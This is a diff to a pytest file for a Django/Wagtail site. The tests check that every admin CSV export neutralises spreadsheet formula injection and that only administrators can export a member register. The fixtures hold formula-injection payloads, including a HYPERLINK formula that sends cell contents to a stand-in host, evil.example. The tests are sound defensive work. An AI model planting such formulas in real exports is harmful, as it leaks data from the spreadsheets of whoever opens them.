@@ -5,12 +5,11 @@ import io
 from types import SimpleNamespace
 
 import pytest
-from django.urls import reverse
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
 from openpyxl import load_workbook
 from wagtail.admin.views.mixins import SpreadsheetExportMixin
-from wagtail.admin.viewsets import viewsets
 
-from home.exports import ThaiExportMixin, neutralise
+from home.exports import neutralise
 from network.models import NetworkMember
 from transparency.exports import csv_response
 
@@ -103,20 +102,58 @@ def test_the_readiness_report_csv_is_formula_safe():
     assert rows[1][:4] == ["O1", "1.1", "'=WEBSERVICE(1)", "'@กลุ่มอำนวยการ"]
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/","คลิก")', "+66 1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def _export_views(patterns=None, route=""):
+    """Every admin URL whose view can write a spreadsheet, found in the URL resolver."""
+    for pattern in get_resolver().url_patterns if patterns is None else patterns:
+        if isinstance(pattern, URLResolver):
+            yield from _export_views(pattern.url_patterns, route + str(pattern.pattern))
+        elif isinstance(pattern, URLPattern):
+            view_class = getattr(pattern.callback, "view_class", None)
+            if view_class and issubclass(view_class, SpreadsheetExportMixin):
+                yield route + str(pattern.pattern), view_class
+
+
+def test_every_csv_export_of_the_admin_goes_through_the_helper():
+    found = dict(_export_views())
+    names = {view_class.__qualname__ for view_class in found.values()}
+    # The walk reaches the project's listings and Wagtail's own reports alike.
+    assert {"PublicationRequestIndexView", "LockedPagesView", "LogEntriesView", "AgingPagesView"} <= names
+    assert any("networkmember" in route for route in found)
+    for route, view_class in found.items():
+        buffer = io.StringIO()
+        view = view_class()
+        writer = csv.DictWriter(buffer, fieldnames=["cell"])
+        for value in FORMULAS:
+            view.write_csv_row(writer, {"cell": value})
+        written = [row[0] for row in csv.reader(io.StringIO(buffer.getvalue()))]
+        assert written == ["'" + value for value in FORMULAS], route
+
+
 @pytest.mark.django_db
-def test_every_admin_csv_export_goes_through_the_helper(demo):
-    exporting = {
-        str(viewset.name): viewset
-        for viewset in viewsets.viewsets
-        if getattr(viewset, "index_view_class", None)
-        and issubclass(viewset.index_view_class, SpreadsheetExportMixin)
-        and getattr(viewset, "list_export", None)
-    }
-    assert "wagtailsnippets_network_networkmember" in exporting or any(
-        "networkmember" in name for name in exporting
-    )
-    # The exports of the issue: the register, the channel log and the publication requests.
-    named = {n for n in exporting if "network" in n or "publication" in n}
-    assert any("publication" in n for n in named)
-    unsafe = {n for n in named if not issubclass(exporting[n].index_view_class, ThaiExportMixin)}
-    assert not unsafe, unsafe
+@pytest.mark.parametrize("report", ["wagtailadmin_reports:locked_pages", "wagtailadmin_reports:site_history"])
+def test_wagtail_reports_export_a_hostile_page_title_as_text(demo, login, report):
+    """An editor titles a page as a formula; the administrator exports Wagtail's own report."""
+    from tests import factories
+
+    title = '=HYPERLINK("http://evil.example/?d="&A1,"ประกาศ")'
+    page = factories.draft_page(demo.departments["general-administration"], demo.users["editor"], title=title)
+    page.locked, page.locked_by = True, demo.users["editor"]
+    page.save()
+    page.save_revision(user=demo.users["editor"], log_action=True)
+    response = login(demo.users["admin"]).get(reverse(report), {"export": "csv"})
+    assert response.status_code == 200
+    cells = [cell for row in _csv_rows(response) for cell in row.values() if cell]
+    assert "'" + title in cells
+    assert not any(cell[:1] in "=+-@\t\r" for cell in cells)
+
+
+@pytest.mark.django_db
+def test_other_roles_cannot_export_the_register(demo, login):
+    url = reverse("wagtailsnippets_network_networkmember:list")
+    for username in ("editor", "groupdirector", "webmaster"):
+        response = login(demo.users[username]).get(url, {"export": "csv"})
+        assert response.status_code in (302, 403)
+        assert "text/csv" not in response.get("Content-Type", "")
